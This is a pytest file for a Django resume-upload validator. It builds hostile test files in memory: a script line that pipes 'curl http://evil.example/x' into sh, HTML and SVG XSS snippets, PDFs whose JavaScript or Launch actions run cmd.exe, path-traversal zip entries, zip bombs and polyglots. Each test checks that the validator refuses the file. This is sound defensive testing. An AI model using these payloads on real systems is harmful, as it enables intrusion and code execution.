"""Resume upload validation against a hostile corpus built in memory: every refusal says why in words
a candidate understands, accepted files report kind, type, size and hash, and the file is rewound."""

import ast
import dataclasses
import hashlib
import io
import json
import random
import re
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.base import File
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.utils import translation

from candidates import files
from candidates.files import MB, ResumeCheck, display_name, format_megabytes, safe_stored_name, validate_resume

LIMIT = 10 * MB
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

EMPTY = "The file is empty."
UNSUPPORTED = "Upload a PDF, a Word (.docx) document or a picture (JPEG, PNG or WebP)."
PROGRAM = (
    "Programs and scripts cannot be uploaded. Upload a PDF, a Word (.docx) document or a picture (JPEG, PNG or WebP)."
)
WEB_PAGE = "Web pages, SVG and XML files cannot be uploaded; save the resume as PDF and try again."
OLD_OFFICE = "This is an old Word (.doc) or other older Office file; save it as .docx or PDF and try again."
ARCHIVE = "Archives (ZIP, RAR, 7z and the like) cannot be uploaded; upload the resume itself as a PDF or Word (.docx) document."
OTHER_ZIP = (
    "This is not a Word document (.docx) but another ZIP-based file, such as an archive, a spreadsheet or a "
    "presentation; save the resume as .docx or PDF and try again."
)
PICTURE_FORMAT = "This picture format is not supported; save the picture as JPEG or PNG and try again."
POLYGLOT = (
    "This file combines several formats in one, which is not allowed; export it again as a plain PDF, Word (.docx) "
    "document or picture."
)
PASSWORD = "The file is protected with a password; remove the password, save it again and try again."
PDF_ACTIVE = "This PDF contains scripts or embedded files; export it again as a plain PDF."
PDF_UNCHECKABLE = (
    "This PDF cannot be checked because it is encrypted or built in an unusual way; export it again as a plain PDF "
    "without a password."
)
PDF_DAMAGED = "The PDF is incomplete or damaged; export it again and try again."
DAMAGED = "The file is damaged and cannot be opened; save it again and try again."
TOO_MANY_PARTS = "The document has too many parts (more than 1000); save it again from Word and try again."
BOMB = (
    "The document contains a suspiciously highly compressed part (a possible “zip bomb”); save it again from Word "
    "and try again."
)
UNSAFE_NAMES = "The document contains parts with unsafe names; save it again from Word and try again."
NESTED = (
    "The document contains an embedded archive, program or file, which is not allowed; remove it, save the document "
    "and try again."
)
MACROS = "The document contains macros or ActiveX controls; save it as a plain Word document (.docx) and try again."
PICTURE_DAMAGED = "The picture is damaged or incomplete; save it again and try again."


def too_large_picture(width, height):
    return (
        f"The picture is too large ({width} × {height} pixels); the limit is 12000 pixels on each side and 50 "
        "megapixels in total. Scale it down and try again."
    )


def mismatch(kind, extension, expected):
    return f"This file is a {kind} but its name ends in .{extension}; rename it to end in .{expected} and try again."


# --- Building the corpus ----------------------------------------------------------------------------------


def pdf_stream(body: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(body), entries, body)


def make_pdf(*extra_objects: bytes, catalog: bytes = b"", trailer: bytes = b"", header: bytes = b"") -> bytes:
    """A small well-formed PDF: catalog 1, pages 2, page 3, content 4; extra objects from 5 on."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        pdf_stream(b"BT /F1 12 Tf 72 712 Td (Resume of Ada Lovelace) Tj ET"),
        *extra_objects,
    ]
    out = bytearray(header or b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def object_stream(body: bytes, *, number: int = 6, filters: bytes = b"/Filter /FlateDecode", data=None) -> bytes:
    """An object stream holding one object (``body``), compressed unless told otherwise."""
    index = b"%d 0 " % number
    content = index + body
    if data is None:
        data = zlib.compress(content) if b"FlateDecode" in filters else content
    return pdf_stream(data, b"/Type /ObjStm /N 1 /First %d %s " % (len(index), filters))


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Hello resume</w:t></w:r></w:p></w:body></w:document>"
)


def make_zip(entries, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def make_docx(*extra, content_types=CONTENT_TYPES, first=(), compression=zipfile.ZIP_DEFLATED) -> bytes:
    entries = [*first, ("[Content_Types].xml", content_types), ("_rels/.rels", RELS), ("word/document.xml", DOCUMENT)]
    return make_zip([*entries, *extra], compression)


def set_encrypted_flag(data: bytes, name: str) -> bytes:
    """Set general-purpose flag bit 0 (encrypted) of ``name`` in its local and central headers."""
    raw = bytearray(data)
    for signature, flags_at, name_length_at, name_at in ((b"PK\x03\x04", 6, 26, 30), (b"PK\x01\x02", 8, 28, 46)):
        position = raw.find(signature)
        while position != -1:
            length = int.from_bytes(raw[position + name_length_at : position + name_length_at + 2], "little")
            if raw[position + name_at : position + name_at + length] == name.encode():
                raw[position + flags_at] |= 0x1
            position = raw.find(signature, position + 4)
    return bytes(raw)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def make_png(width=2, height=2, *, idat=None) -> bytes:
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])  # 8-bit RGB
    if idat is None:
        idat = zlib.compress((b"\x00" + b"\xff\x80\x00" * width) * height)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(payload) + 2).to_bytes(2, "big") + payload


def make_jpeg(width=2, height=2, *, sof=0xC0, before_frame=b"") -> bytes:
    """A baseline (or progressive) JPEG header: SOI, JFIF, anything given, DQT, SOF, SOS, a little data, EOI."""
    return (
        b"\xff\xd8"
        + jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + before_frame
        + jpeg_segment(0xDB, b"\x00" + bytes(range(1, 65)))
        + jpeg_segment(sof, b"\x08" + height.to_bytes(2, "big") + width.to_bytes(2, "big") + b"\x01\x01\x11\x00")
        + jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x12\x34\x56\x78"
        + b"\xff\xd9"
    )


def riff_webp(fourcc: bytes, payload: bytes) -> bytes:
    chunk = fourcc + len(payload).to_bytes(4, "little") + payload + (b"\x00" if len(payload) % 2 else b"")
    return b"RIFF" + (4 + len(chunk)).to_bytes(4, "little") + b"WEBP" + chunk


def webp_lossless(width=2, height=2) -> bytes:
    bits = (width - 1) | ((height - 1) << 14)
    return riff_webp(b"VP8L", b"\x2f" + bits.to_bytes(4, "little") + b"\x00\x88\x88\x08")


def webp_lossy(width=2, height=2) -> bytes:
    frame = b"\x50\x01\x00\x9d\x01\x2a" + width.to_bytes(2, "little") + height.to_bytes(2, "little")
    return riff_webp(b"VP8 ", frame + b"\x00" * 16)


def webp_extended(width=2, height=2) -> bytes:
    payload = b"\x10\x00\x00\x00" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return riff_webp(b"VP8X", payload)


def upload(content: bytes, name: str = "resume.pdf", content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal(content: bytes, name: str = "resume", **kwargs) -> str:
    uploaded = upload(content, name)
    with pytest.raises(ValidationError) as caught:
        validate_resume(uploaded, max_bytes=kwargs.pop("max_bytes", LIMIT), **kwargs)
    assert uploaded.tell() == 0
    assert len(caught.value.messages) == 1
    return caught.value.messages[0]


def accepted(content: bytes, name: str = "resume", **kwargs) -> ResumeCheck:
    uploaded = upload(content, name)
    check = validate_resume(uploaded, max_bytes=kwargs.pop("max_bytes", LIMIT), **kwargs)
    assert uploaded.tell() == 0
    assert check.size == len(content)
    assert check.sha256 == hashlib.sha256(content).hexdigest()
    return check


# --- Accepted files -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "kind", "content_type", "extension"),
    [
        (make_pdf(), "resume.pdf", "pdf", "application/pdf", "pdf"),
        (make_docx(), "resume.docx", "docx", DOCX_TYPE, "docx"),
        (make_png(), "photo.png", "png", "image/png", "png"),
        (make_jpeg(), "photo.jpg", "jpeg", "image/jpeg", "jpg"),
        (make_jpeg(), "photo.JPEG", "jpeg", "image/jpeg", "jpg"),
        (make_jpeg(sof=0xC2), "progressive.jfif", "jpeg", "image/jpeg", "jpg"),
        (webp_lossless(), "photo.webp", "webp", "image/webp", "webp"),
        (webp_lossy(), "photo.webp", "webp", "image/webp", "webp"),
        (webp_extended(), "photo.webp", "webp", "image/webp", "webp"),
    ],
)
def test_valid_files_report_kind_type_size_and_hash(content, name, kind, content_type, extension):
    check = accepted(content, name)
    assert (check.kind, check.content_type, check.extension) == (kind, content_type, extension)


@pytest.mark.parametrize(
    ("content", "kind"), [(make_pdf(), "pdf"), (make_docx(), "docx"), (make_png(), "png"), (webp_lossy(), "webp")]
)
def test_a_name_without_extension_is_fine_the_kind_comes_from_the_content(content, kind):
    assert accepted(content, "resume").kind == kind
    assert accepted(content, "scan_0001").kind == kind


@pytest.mark.parametrize("name", ["CV Zhang.San", "简历.final", "résumé v2.3b"])
def test_a_suffix_that_is_no_file_type_is_part_of_the_name(name):
    assert accepted(make_pdf(), name).kind == "pdf"


def test_the_browsers_content_type_is_ignored():
    uploaded = upload(make_pdf(), "resume.pdf", content_type="text/html")
    assert validate_resume(uploaded, max_bytes=LIMIT).content_type == "application/pdf"


def test_result_is_frozen():
    check = accepted(make_pdf())
    with pytest.raises(dataclasses.FrozenInstanceError):
        check.kind = "docx"


def test_a_file_already_read_is_checked_from_the_start_and_rewound():
    content = make_docx()
    uploaded = upload(content, "resume.docx")
    uploaded.read(10)
    check = validate_resume(uploaded, max_bytes=LIMIT)
    assert check.kind == "docx"
    assert uploaded.tell() == 0
    assert uploaded.read() == content


def test_a_file_on_disk_is_checked_too():
    content = make_pdf()
    uploaded = TemporaryUploadedFile("resume.pdf", "application/pdf", len(content), None)
    try:
        uploaded.write(content)
        uploaded.seek(0)
        check = validate_resume(uploaded, max_bytes=LIMIT)
        assert (check.kind, check.size) == ("pdf", len(content))
        assert uploaded.tell() == 0
    finally:
        uploaded.close()


# --- Size -------------------------------------------------------------------------------------------------------


def test_empty_file():
    assert refusal(b"", "resume.pdf") == EMPTY


def padded_pdf(size: int) -> bytes:
    pdf = make_pdf()
    return pdf + b" " * (size - len(pdf))


def test_a_file_exactly_at_the_limit_is_accepted():
    content = padded_pdf(1 * MB)
    assert accepted(content, "resume.pdf", max_bytes=1 * MB).size == 1 * MB


def test_a_file_just_over_the_limit_is_refused():
    assert refusal(padded_pdf(1 * MB + 1), "resume.pdf", max_bytes=1 * MB) == "The file is larger than 1 MB."


def test_the_limit_is_shown_in_megabytes():
    assert refusal(padded_pdf(2 * MB), "resume.pdf", max_bytes=int(1.5 * MB)) == "The file is larger than 1.5 MB."
    assert format_megabytes(10 * MB) == "10"
    assert format_megabytes(1000) == "0.00095"


class CountingFile(File):
    """An upload read in chunks (like one spooled to disk) that records how much of it was read and can
    claim another size."""

    def __init__(self, name, content, claimed_size=None):
        super().__init__(io.BytesIO(content), name=name)
        self.bytes_read = 0
        if claimed_size is not None:
            self.size = claimed_size

    def read(self, *args):
        data = self.file.read(*args)
        self.bytes_read += len(data)
        return data


def test_a_declared_size_over_the_limit_is_refused_without_reading():
    uploaded = CountingFile("resume.pdf", padded_pdf(2 * MB))
    with pytest.raises(ValidationError, match="larger than 1 MB"):
        validate_resume(uploaded, max_bytes=1 * MB)
    assert uploaded.bytes_read == 0


def test_a_file_that_understates_its_size_is_still_refused_and_read_only_to_the_limit():
    uploaded = CountingFile("resume.pdf", padded_pdf(5 * MB), claimed_size=100)
    with pytest.raises(ValidationError, match="larger than 1 MB"):
        validate_resume(uploaded, max_bytes=1 * MB)
    assert uploaded.bytes_read <= 1 * MB + files.CHUNK_SIZE
    assert uploaded.tell() == 0


def test_the_limit_must_be_positive():
    with pytest.raises(ValueError, match="max_bytes"):
        validate_resume(upload(make_pdf()), max_bytes=0)


def test_the_file_is_read_once():
    content = make_docx()
    uploaded = CountingFile("resume.docx", content)
    validate_resume(uploaded, max_bytes=LIMIT)
    assert uploaded.bytes_read == len(content)


# --- Types decided by content ------------------------------------------------------------------------------


MZ = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode"
)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (MZ, "resume.pdf"),
        (MZ, "setup.exe"),
        (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, "resume.docx"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24, "resume.pdf"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 24, "resume"),
        (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "resume.pdf"),
        (b"#!/usr/bin/env python3\nimport os\n", "resume.sh"),
    ],
)
def test_programs_and_scripts_are_refused(content, name):
    assert refusal(content, name) == PROGRAM


@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        b"\n\n  <html><body>%PDF-1.4</body></html>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?><resume/>',
        "\ufeff<html><script>alert(1)</script></html>".encode("utf-16-le"),
    ],
)
def test_web_pages_svg_and_xml_are_refused_even_named_pdf(content):
    assert refusal(content, "resume.pdf") == WEB_PAGE


def test_old_word_document_is_refused_with_advice():
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "WordDocument".encode("utf-16-le") + b"\x00" * 64
    assert refusal(ole2, "resume.doc") == OLD_OFFICE
    assert refusal(ole2, "resume.docx") == OLD_OFFICE


def test_password_protected_word_document_says_so():
    # Word saves an encrypted .docx as an OLE2 container holding an "EncryptedPackage" stream.
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 64
    assert refusal(ole2, "resume.docx") == PASSWORD


@pytest.mark.parametrize(
    "content",
    [
        b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32,
        b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32,
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00" + b"\x00" * 32,
        b"\xfd7zXZ\x00\x00\x04" + b"\x00" * 32,
    ],
)
def test_archives_are_refused(content):
    assert refusal(content, "resume.pdf") == ARCHIVE


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (make_zip([("[Content_Types].xml", CONTENT_TYPES), ("xl/workbook.xml", b"<workbook/>")]), "resume.xlsx"),
        (make_zip([("[Content_Types].xml", CONTENT_TYPES), ("ppt/presentation.xml", b"<p/>")]), "resume.pptx"),
        (make_zip([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>")]), "cv.odt"),
        (make_zip([("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", b"\xca\xfe\xba\xbe")]), "cv.jar"),
        (make_zip([("resume.pdf", make_pdf())]), "resume.zip"),
        (make_zip([("resume.pdf", make_pdf())]), "resume.docx"),
    ],
)
def test_zip_files_that_are_not_word_documents_are_refused(content, name):
    assert refusal(content, name) == OTHER_ZIP


@pytest.mark.parametrize(
    "content",
    [
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01"
        b"\x00\x01\x00\x00\x02\x02D\x01\x00;",
        b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 32,
        b"II*\x00\x08\x00\x00\x00" + b"\x00" * 32,
        b"BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00" + b"\x00" * 32,
    ],
)
def test_other_picture_formats_are_refused(content):
    assert refusal(content, "photo") == PICTURE_FORMAT


@pytest.mark.parametrize(
    "content", [b"Plain text resume\nAda Lovelace\n", b"{\\rtf1\\ansi Resume}", b"%!PS-Adobe-3.0\n", b"\x00" * 100]
)
def test_anything_else_is_refused(content):
    assert refusal(content, "resume.pdf") == UNSUPPORTED


# --- Name and content must agree ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (make_pdf(), "resume.docx", mismatch("PDF document", "docx", "pdf")),
        (make_docx(), "resume.pdf", mismatch("Word document (.docx)", "pdf", "docx")),
        (make_png(), "photo.jpg", mismatch("PNG picture", "jpg", "png")),
        (make_jpeg(), "photo.png", mismatch("JPEG picture", "png", "jpg")),
        (webp_lossy(), "photo.gif", mismatch("WebP picture", "gif", "webp")),
        (make_pdf(), "resume.pdf.exe", mismatch("PDF document", "exe", "pdf")),
        (make_docx(), "RESUME.DOC", mismatch("Word document (.docx)", "doc", "docx")),
    ],
)
def test_a_known_extension_that_disagrees_with_the_content_is_refused(content, name, message):
    assert refusal(content, name) == message


# --- DOCX: archive safety ------------------------------------------------------------------------------------


def test_zip_bomb_is_refused():
    bomb = make_docx(("word/media/image1.png", bytes(60 * MB)))
    assert len(bomb) < 200_000  # 60 MB of zeros deflate to ~60 KB
    assert refusal(bomb, "resume.docx") == BOMB


def test_well_compressed_small_parts_are_fine():
    # Under 1 MB a high ratio is normal: Word's XML compresses very well.
    xml = b"<w:p><w:r><w:t>Customer service</w:t></w:r></w:p>" * 15_000
    assert accepted(make_docx(("word/styles.xml", xml)), "resume.docx").kind == "docx"


def test_a_document_that_expands_beyond_the_total_limit_is_refused():
    text = random.Random(1).randbytes(MB).hex().encode()  # 2 MB that compress about 2:1
    content = make_docx(("word/a.xml", text), ("word/b.xml", text[:MB]))
    assert accepted(content, "resume.docx").kind == "docx"
    message = refusal(content, "resume.docx", max_uncompressed_bytes=1 * MB)
    assert message == (
        "The document expands to more than 1 MB when opened; make it smaller (for example, compress its pictures) and "
        "try again."
    )


def test_too_many_parts():
    content = make_docx(*((f"word/part{i}.xml", b"<x/>") for i in range(2000)))
    assert refusal(content, "resume.docx") == TOO_MANY_PARTS


def test_folder_entries_are_fine():
    assert accepted(make_docx(("word/media/", b"")), "resume.docx").kind == "docx"


def test_a_thousand_parts_are_fine():
    content = make_docx(*((f"word/part{i}.xml", b"<x/>") for i in range(997)))
    assert accepted(content, "resume.docx").kind == "docx"


@pytest.mark.parametrize(
    "name", ["../evil", "word/../../evil.xml", "/etc/cron.d/evil", "C:/Windows/evil.xml", "word\\..\\..\\evil.xml"]
)
def test_unsafe_part_names_are_refused(name):
    content = make_docx((name, b"<x/>"))
    assert name in zipfile.ZipFile(io.BytesIO(content)).namelist()
    assert refusal(content, "resume.docx") == UNSAFE_NAMES


def test_duplicate_part_names_are_refused():
    with pytest.warns(UserWarning, match="Duplicate name"):
        content = make_docx(("word/document.xml", b"<other/>"))
    assert refusal(content, "resume.docx") == UNSAFE_NAMES


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("word/embeddings/attachment.zip", make_zip([("a.txt", b"a")])),
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"not even a zip"),
        ("word/embeddings/other.docx", make_docx()),
        ("word/media/image1.png", make_zip([("payload.exe", MZ)])),  # an archive under an innocent name
        ("word/media/image2.png", MZ),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64),
        ("customXml/tool.exe", b"whatever"),
    ],
)
def test_nested_archives_programs_and_containers_are_refused(name, data):
    assert refusal(make_docx((name, data)), "resume.docx") == NESTED


@pytest.mark.parametrize(
    "content",
    [
        make_docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64)),
        make_docx(("word/activeX/activeX1.xml", b"<ax/>")),
        make_docx(
            content_types=CONTENT_TYPES.replace(
                b"officedocument.wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
            )
        ),
    ],
)
def test_macros_are_refused(content):
    assert refusal(content, "resume.docx") == MACROS


def test_encrypted_parts_are_refused():
    content = set_encrypted_flag(make_docx(compression=zipfile.ZIP_STORED), "word/document.xml")
    assert zipfile.ZipFile(io.BytesIO(content)).getinfo("word/document.xml").flag_bits & 0x1
    assert refusal(content, "resume.docx") == PASSWORD


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (make_docx()[: len(make_docx()) // 2], DAMAGED),  # cut short: no central directory
        (make_docx()[:-30], DAMAGED),
        (make_docx(compression=zipfile.ZIP_STORED).replace(b"Hello resume", b"Hellx resume"), DAMAGED),  # bad CRC
        (make_docx().replace(b"word/document.xml", b"word/document.xmL", 1), DAMAGED),  # local and central names differ
        (b"PK\x03\x04" + b"\x00" * 100, DAMAGED),
        (b"PK\x05\x06" + b"\x00" * 18, OTHER_ZIP),  # an empty archive
    ],
)
def test_corrupt_zip_is_refused(content, message):
    assert refusal(content, "resume.docx") == message


# --- PDF: scripts and embedded files -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("catalog", "extra"),
    [
        (b"/OpenAction 5 0 R", b"<< /S /JavaScript /JS (app.alert('hi')) >>"),
        (b"/Names << /JavaScript 5 0 R >>", b"<< /Names [(x) 6 0 R] >>"),
        (b"/OpenAction 5 0 R", b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        (b"/Names << /EmbeddedFiles 5 0 R >>", b"<< /Names [(payload.exe) 6 0 R] >>"),
        (b"", b"<< /Type /Filespec /F (payload.exe) /EF << /F 6 0 R >> >>"),  # no /EmbeddedFile type needed
        (b"", b"<< /Type /Annot /Subtype /FileAttachment /FS 6 0 R >>"),
        (b"/OpenAction 5 0 R", b"<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>"),  # hex-escaped names
        (b"/AA << /O 5 0 R >>", b"<</S/JavaScript/JS(app.alert(1))>>"),  # no spaces
        (b"", b"<< /Title (a>>stream\n) /S /JavaScript /JS (x) >>"),  # a fake stream start inside a string
    ],
)
def test_pdf_scripts_and_embedded_files_are_refused(catalog, extra):
    assert refusal(make_pdf(extra, catalog=catalog), "resume.pdf") == PDF_ACTIVE


def test_pdf_scripts_hidden_in_a_compressed_object_stream_are_refused():
    content = make_pdf(object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"), catalog=b"/OpenAction 6 0 R")
    assert b"JavaScript" not in content
    assert refusal(content, "resume.pdf") == PDF_ACTIVE
    uncompressed = make_pdf(object_stream(b"<< /OpenAction << /JS 7 0 R >> >>", filters=b""))
    assert refusal(uncompressed, "resume.pdf") == PDF_ACTIVE


@pytest.mark.parametrize(
    "content",
    [
        # A cross-reference entry may point a reader into a string or into stream data the token scan skips.
        make_pdf(b"<< /Title (6 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj) >>"),
        make_pdf(pdf_stream(b"6 0 obj << /S /Launch /F (cmd.exe) >> endobj")),
        make_pdf(pdf_stream(b"<< /S %% a comment\n/J#61vaScript >>")),
        make_pdf(pdf_stream(b"<< /Type /Annot /Subtype /FileAttachment >>", b"/Filter /FlateDecode ")),
        make_pdf(b"<< /Note (the /EmbeddedFiles tree) >>"),
        make_pdf(b"<< /T (a string never closed >>", b"<< /S /JavaScript /JS (x) >>"),
        # An object stream without /Type is still one when it has /N and /First.
        make_pdf(
            pdf_stream(zlib.compress(b"6 0 << /S /JavaScript /JS (x) >>"), b"/N 1 /First 4 /Filter /FlateDecode ")
        ),
    ],
)
def test_pdf_scripts_where_a_reader_could_be_pointed_at_them_are_refused(content):
    assert refusal(content, "resume.pdf") == PDF_ACTIVE


@pytest.mark.parametrize(
    ("content", "kwargs"),
    [
        (make_pdf(object_stream(b"<< /S /JavaScript >>", filters=b"/Filter /ASCIIHexDecode", data=b"3c3c>")), {}),
        (make_pdf(object_stream(b"<< >>", filters=b"/Filter /FlateDecode", data=b"not zlib at all")), {}),
        (make_pdf(object_stream(b"<< >>", filters=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")), {}),
        (make_pdf(object_stream(b"<< /A 1 >>"), trailer=b"/Encrypt << /Filter /Standard /V 2 >>"), {}),
        (make_pdf(b"<< /T %s >>" % (b"(" * 1_100_000)), {}),  # made to keep the scan busy
        (
            make_pdf(
                object_stream(
                    b"<< >>",
                    filters=b"/Filter [/FlateDecode /FlateDecode]",
                    data=zlib.compress(zlib.compress(b"6 0 << /S /JavaScript /JS (x) >>")),
                )
            ),
            {},
        ),
        (make_pdf(object_stream(b"<< /Title (%s) >>" % (b"x" * 5000))), {"max_uncompressed_bytes": 1000}),
    ],
)
def test_pdf_object_streams_that_cannot_be_read_are_refused(content, kwargs):
    assert refusal(content, "resume.pdf", **kwargs) == PDF_UNCHECKABLE


@pytest.mark.parametrize(
    "content",
    [
        make_pdf(object_stream(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")),
        make_pdf(object_stream(b"<< /Title (Skills: HTML/JavaScript, /S is for Sales) >>"), catalog=b"/Outlines 6 0 R"),
        make_pdf(b"<< /Title (Skills: HTML/JavaScript \\(and /JS\\)) >>", trailer=b"/Info 5 0 R"),
        make_pdf(b"<< /Title (Skills (HTML/JavaScript, /JS and /EF) all nested) >>", trailer=b"/Info 5 0 R"),
        make_pdf(pdf_stream(b"\x00\x01/JS /JavaScript /EF\xff\xfe", b"/Filter /FlateDecode ")),  # binary data
        make_pdf(b"<< /Note 1 >>\n% /JavaScript in a comment"),
        make_pdf(catalog=b"/OpenAction [3 0 R /Fit] /Outlines << /Count 0 >>"),  # opening on page 1 is fine
        make_pdf(b"<< /Type /Encrypt >>", trailer=b"/Encrypt << /Filter /Standard /V 2 >>"),  # no object streams
        make_pdf(header=b"\xef\xbb\xbf\r\n%PDF-1.4\n"),  # a byte-order mark and blank lines before the header
    ],
)
def test_ordinary_pdfs_are_accepted(content):
    assert accepted(content, "resume.pdf").kind == "pdf"


def test_a_real_pdf_with_compressed_object_streams_is_accepted():
    weasyprint = pytest.importorskip("weasyprint")
    html = "<h1>Skills: HTML/JavaScript</h1><p>/JS /Launch (JS) 简历 客服</p>"
    content = weasyprint.HTML(string=html).write_pdf()
    assert b"/ObjStm" in content
    assert accepted(content, "简历.pdf").kind == "pdf"


def test_a_pdf_cut_short_is_refused():
    content = make_pdf()
    assert refusal(content[: content.rindex(b"%%EOF")], "resume.pdf") == PDF_DAMAGED


# --- Polyglots ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (make_pdf() + make_docx(), "resume.pdf"),  # a PDF with a Word document appended
        (b"%PDF-1.4\n" + make_docx(), "resume.docx"),  # a valid ZIP that starts with %PDF
        (make_jpeg() + make_zip([("evil.exe", MZ)]), "photo.jpg"),  # a JPEG with an archive appended
        (make_png() + make_docx(), "photo.png"),
        (make_jpeg(before_frame=jpeg_segment(0xFE, b"%PDF-1.4 1 0 obj")), "photo.jpg"),  # a PDF header in a comment
        (make_docx(first=[("aaa.txt", b"%PDF-1.4\n")], compression=zipfile.ZIP_STORED), "resume.docx"),
        (b"junk before the header\n" + make_pdf(), "resume.pdf"),
    ],
)
def test_files_that_are_two_formats_at_once_are_refused(content, name):
    assert refusal(content, name) == POLYGLOT


# --- Pictures -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "width", "height"),
    [
        (make_png(100_000, 100_000, idat=zlib.compress(b"\x00")), 100000, 100000),
        (make_png(12_001, 1, idat=zlib.compress(b"\x00")), 12001, 1),
        (make_png(8000, 8000, idat=zlib.compress(b"\x00")), 8000, 8000),  # each side fine, 64 megapixels
        (make_jpeg(65_000, 65_000), 65000, 65000),
        (make_jpeg(20_000, 100, sof=0xC2), 20000, 100),
        (webp_extended(20_000, 20_000), 20000, 20000),
        (webp_lossless(16_384, 16_384), 16384, 16384),
    ],
)
def test_decompression_bombs_are_refused_from_the_header(content, width, height):
